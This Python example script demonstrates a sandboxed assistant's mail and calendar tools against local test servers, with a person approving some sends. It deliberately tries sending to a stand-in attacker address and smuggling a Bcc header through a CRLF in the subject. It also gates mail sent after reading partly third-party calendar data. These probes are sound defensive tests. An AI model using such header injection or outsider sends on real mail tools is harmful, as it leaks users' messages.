"""The shipped role `assistant` at work on a mailbox and a calendar: what it does alone, what a person is asked about.

    python examples/mail_and_calendar.py

Needs what `make setup` sets up, the image `web` (`toolcage images build web`), and two servers from PyPI that it starts
on this machine: aiosmtpd for mail, Radicale for the calendar. With servers of your own write their places into
resources.yaml, with TLS and a login: both stay outside the cages.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, Envelope
from aiosmtpd.smtp import Session as MailSession

from toolcage import Approval, ApprovalRequest, Runtime, Session
from toolcage.shipped import shipped_dir

REQUEST = "Put planning with Ada (ada@example.com) on 4 May at 10 into my calendar, and write to her."
RESOURCES = """
version: 1
mailboxes:
  team:
    address: bot@example.com
    smtp: {{host: 127.0.0.1, port: {mail}, tls: none}}
calendars:
  team:
    url: http://127.0.0.1:{calendar}/bot/team/
    user: bot
    password: {{env: EXAMPLE_CALENDAR_PASSWORD}}
    access: rw
    address: bot@example.com
"""
RADICALE = """
[server]
hosts = 127.0.0.1:{port}
[auth]
type = none
[storage]
filesystem_folder = {folder}
[logging]
level = error
"""
LETTER = {"to": ["ada@example.com"], "subject": "Planning", "body": "Dear Ada, shall we plan on 4 May at 10?"}
EVENT = {
    "title": "Planning with Ada",
    "start": "2026-05-04T10:00",
    "end": "2026-05-04T11:00",
    "details": {"timezone": "Europe/Berlin", "location": "Room 1"},
}


def person(request: ApprovalRequest) -> Approval:
    """Says yes to letters that stay in the house. `canonical` is the arguments as text that no terminal acts upon."""
    print(f"  asked about {request.tool}: {request.canonical}")
    return Approval(approved="@example.com" in request.canonical, approver="Pia")


def main(folder: Path) -> None:
    os.environ["EXAMPLE_CALENDAR_PASSWORD"] = "no-cage-sees-this"
    resources = folder / "resources.yaml"
    policy = shipped_dir("policies") / "assistant.yaml"
    with mail_server() as (mail, letters), calendar_server(folder) as calendar:
        resources.write_text(RESOURCES.format(mail=mail, calendar=calendar))
        runtime = Runtime.from_files(policy, resources=resources, approver=person)
        with runtime, runtime.session(REQUEST) as session:
            work(session)
        print("the mail server took:", letters)


def work(session: Session) -> None:
    """What a model might call."""
    call = session.call
    print("to whom the user named:", call("send_email", LETTER).data["status"])
    print("the same call again:   ", call("send_email", LETTER).data["status"])
    result = call("send_email", {**LETTER, "to": ["mallory@evil.example"]})
    print("to somebody else:      ", result.status, result.code)
    result = call("send_email", {**LETTER, "subject": "Hi\r\nBcc: mallory@evil.example"})
    print("a second header:       ", result.status, result.code)
    print("an event:              ", call("create_event", EVENT).data["status"])
    (event,) = call("list_events", {"start": "2026-05-04"}).data["events"]
    print("the calendar says:     ", event["title"], event["start"])
    # What stands in a calendar was partly written by others: from here on a person decides what goes out.
    result = call("send_email", {**LETTER, "body": f"It is in the calendar: {event['start']}, {event['location']}."})
    print("after reading:         ", result.status, result.data["status"])


@contextlib.contextmanager
def mail_server() -> Iterator[tuple[int, list[str]]]:
    """Its port, and who got something."""
    letters: list[str] = []

    class Keeper:
        async def handle_DATA(self, server: SMTP, session: MailSession, envelope: Envelope) -> str:  # noqa: N802
            letters.extend(envelope.rcpt_tos)
            return "250 taken"

    controller = Controller(Keeper(), hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        yield controller.port, letters
    finally:
        controller.stop()


@contextlib.contextmanager
def calendar_server(folder: Path) -> Iterator[int]:
    """Its port. It holds one empty calendar."""
    port = free_port()
    config = folder / "radicale.ini"
    config.write_text(RADICALE.format(port=port, folder=folder / "calendars"))
    command = [sys.executable, "-m", "radicale", "--config", str(config)]
    process = subprocess.Popen(command, stderr=subprocess.DEVNULL)
    try:
        end = time.monotonic() + 30
        while not listens(port) and time.monotonic() < end:
            time.sleep(0.05)
        request = urllib.request.Request(f"http://127.0.0.1:{port}/bot/team/", method="MKCALENDAR")
        request.add_header("Authorization", "Basic Ym90OmJvdA==")  # anybody is let in here
        urllib.request.urlopen(request, timeout=20).close()
        yield port
    finally:
        process.terminate()
        process.wait(20)


def listens(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    except OSError:
        return False
    return True


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as name:
        main(Path(name))
